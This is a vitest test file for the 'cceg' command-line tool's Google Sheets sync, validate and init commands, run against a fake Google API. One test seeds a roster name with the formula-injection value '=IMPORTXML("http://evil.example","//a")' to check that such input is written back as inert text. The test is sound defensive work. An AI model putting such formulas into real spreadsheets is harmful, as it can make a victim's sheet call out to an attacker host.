// `cceg init sheets:new`, `cceg sync sheets:<id>` and `cceg validate sheets:<id>` through the CLI, against the fake Google APIs.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readXlsxWorkbook } from '../../functions/adapters/xlsx/read-xlsx.js';
import { writeBigWorkbook } from '../support/big-workbook.js';
import { cli } from '../support/cli.js';
import { COMPLIANT_TODAY, compliantWorkbookRows } from '../support/compliant-workbook.js';
import { addSpreadsheet, fakeRows, fakeTab, seedRawWorkbook } from '../support/fake-google/seed.js';
import type { FakeGoogle } from '../support/fake-google/server.js';
import { useFakeGoogle } from '../support/fake-google/use-fake-google.js';
import { tabOf, rawWorkbook } from '../support/raw-workbook.js';
import type { DataTabName } from '../../functions/core/model/tabs.js';

const google = useFakeGoogle();
let fake: FakeGoogle;
const dir = mkdtempSync(join(tmpdir(), 'cceg-sheets-cli-'));
beforeAll(() => void (fake = google.fake));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeEach(() => fake.resetCalls());

const reads = () => fake.count('sheets.spreadsheets.get') + fake.count('sheets.spreadsheets.values.batchGet');
const writes = () => fake.count('sheets.spreadsheets.batchUpdate') + fake.count('sheets.spreadsheets.values.batchUpdate');
let stores = 0;
const newStore = () => `sqlite:${join(dir, `store-${++stores}.db`)}`;

describe('cceg sync sheets:<id>', () => {
  it.each([100, 10_000])('reads a %i-row workbook in one call (and once more just before writing IDs and Status) and writes it back in at most two, then reads once and writes nothing', async (size) => {
    const path = join(dir, `big-${size}.xlsx`);
    await writeBigWorkbook(path, size);
    const spreadsheetId = seedRawWorkbook(fake, await readXlsxWorkbook(path));
    const store = newStore();

    const first = await cli(['sync', `sheets:${spreadsheetId}`, '--store', store, '--today', '2018-06-01', '--format', 'json']);
    expect(first.err).toBe('');
    const firstCalls = { reads: reads(), writes: writes() };
    const { cellsChanged, run } = JSON.parse(first.out) as { cellsChanged: number; run: { counts: { created: number } } };
    expect(run.counts.created).toBeGreaterThanOrEqual(size);
    expect(cellsChanged).toBeGreaterThanOrEqual(size);
    // The read, and the read that finds the rows again right before the write (people edit while a sync runs).
    expect(fake.count('sheets.spreadsheets.get')).toBe(2);
    expect(fake.count('sheets.spreadsheets.values.batchGet')).toBe(0);
    expect(fake.count('sheets.spreadsheets.values.batchUpdate')).toBe(1);
    expect(firstCalls.writes).toBeLessThanOrEqual(2);

    fake.resetCalls();
    const again = await cli(['sync', `sheets:${spreadsheetId}`, '--store', store, '--today', '2018-06-01', '--format', 'json']);
    expect(again.err).toBe('');
    expect((JSON.parse(again.out) as { cellsChanged: number }).cellsChanged).toBe(0);
    expect({ reads: reads(), writes: writes() }).toEqual({ reads: 1, writes: 0 });
  });

  it('writes a value typed like a formula back into Status and Findings as the text it is', async () => {
    const rows = compliantWorkbookRows();
    const roster = [
      ...rows.Roster!,
      { ID: 'P-0012', Name: '=IMPORTXML("http://evil.example","//a")', Email: 'x@example.net', Role: 'Participant' },
      { ID: 'P-0013', Name: '+1', Email: 'y@example.net', Role: 'Participant' },
      { ID: 'P-0014', Name: 'Plus One', Email: 'z@example.net', Role: '+1' },
    ];
    const tabs = Object.entries({ ...rows, Roster: roster }).map(([name, tabRows]) => tabOf(name as DataTabName, tabRows));
    const spreadsheetId = seedRawWorkbook(fake, rawWorkbook(...tabs, { name: 'Findings', header: ['Severity'], rows: [] }));

    const run = await cli(['sync', `sheets:${spreadsheetId}`, '--store', newStore(), '--today', COMPLIANT_TODAY]);
    expect(run.err).toBe('');
    const spreadsheet = fake.spreadsheets.get(spreadsheetId)!;
    const messages = fakeRows(spreadsheet, 'Findings').map((row) => row[5]);
    expect(messages).toContain('=IMPORTXML("http://evil.example","//a") (P-0012) is an active Participant with no SOI URL and not both an Affiliation and an Expertise statement.');
    expect(messages).toContain('+1 (P-0013) is an active Participant with no SOI URL and not both an Affiliation and an Expertise statement.');
    expect(messages).toContainEqual(expect.stringMatching(/^Role "\+1" is not one of/));
    const status = fakeRows(spreadsheet, 'Roster').map((row) => row[13]);
    expect(status[12]).toContain('=IMPORTXML("http://evil.example","//a") (P-0012)');
    expect(status[13]).toContain('+1 (P-0013)');
    expect(status[14]).toContain('Role "+1" is not one of');
    for (const title of ['Roster', 'Findings', 'Dashboard']) {
      const cells = fakeTab(spreadsheet, title).cells.flat().filter((cell) => cell !== undefined);
      expect(cells.filter((cell) => cell.kind !== 'value'), title).toEqual([]);
    }
    const body = JSON.parse(fake.requests.find((request) => request.method === 'sheets.spreadsheets.values.batchUpdate')!.body.toString()) as { valueInputOption: string };
    expect(body.valueInputOption).toBe('RAW');

    const validate = await cli(['validate', `sheets:${spreadsheetId}`, '--today', COMPLIANT_TODAY, '--format', 'json']);
    const { findings } = JSON.parse(validate.out) as { findings: { message: string }[] };
    expect(findings.map((finding) => finding.message)).toContain('Role "+1" is not one of: Member, Participant, Observer, Chair, Co-Chair, Staff, Liaison, Advisor.');
  });

  it('needs --store for a Google Sheet, and says so before calling Google', async () => {
    const { spreadsheetId } = addSpreadsheet(fake, 'No store', [{ title: 'Roster', rows: [['ID']] }]);
    const run = await cli(['sync', `sheets:${spreadsheetId}`]);
    expect(run.code).toBe(2);
    expect(run.err).toMatch(/--store/);
    expect(fake.requests).toEqual([]);
  });

  it('exits 2 with one line when the spreadsheet does not exist', async () => {
    const run = await cli(['sync', 'sheets:1NoSuchSpreadsheet000', '--store', newStore()]);
    expect(run).toMatchObject({ code: 2, err: 'cceg: sheets:1NoSuchSpreadsheet000: no such spreadsheet, or no access to it.\n' });
  });
});

describe('cceg init sheets:new', () => {
  it('creates a spreadsheet with every tab, header, dropdown, frozen row and protection in two calls', async () => {
    const run = await cli(['init', 'sheets:new', '--title', 'CCEG IG 2018']);
    expect(run.err).toBe('');
    const location = /Wrote (sheets:\S+) with 14 tabs/.exec(run.out)?.[1];
    expect(location).toBeDefined();
    expect([...fake.calls]).toEqual([['sheets.spreadsheets.create', 1], ['sheets.spreadsheets.batchUpdate', 1]]);
    const spreadsheet = fake.spreadsheets.get(location!.slice('sheets:'.length))!;
    expect(spreadsheet.properties.title).toBe('CCEG IG 2018');
    expect(fakeTab(spreadsheet, 'Roster').dataValidations.length).toBeGreaterThan(0);
    expect(fakeTab(spreadsheet, 'Findings').protectedRanges).toHaveLength(1);

    const validate = await cli(['validate', location!, '--today', COMPLIANT_TODAY, '--format', 'json']);
    const { findings } = JSON.parse(validate.out) as { findings: { rule: string }[] };
    expect(findings.filter((finding) => /^(tab|cell|row|ref)\./.test(finding.rule))).toEqual([]);
  });

  it('needs a title, and never writes into an existing spreadsheet', async () => {
    expect(await cli(['init', 'sheets:new'])).toMatchObject({ code: 2, err: expect.stringContaining('--title') });
    expect(await cli(['init', 'sheets:1AbCdEfGhIjKl', '--title', 'T'])).toMatchObject({ code: 2, err: expect.stringContaining('sheets:new') });
    expect(await cli(['init', join(dir, 'x.xlsx'), '--title', 'T'])).toMatchObject({ code: 2, err: expect.stringContaining('--title') });
    expect(fake.requests).toEqual([]);
  });
});
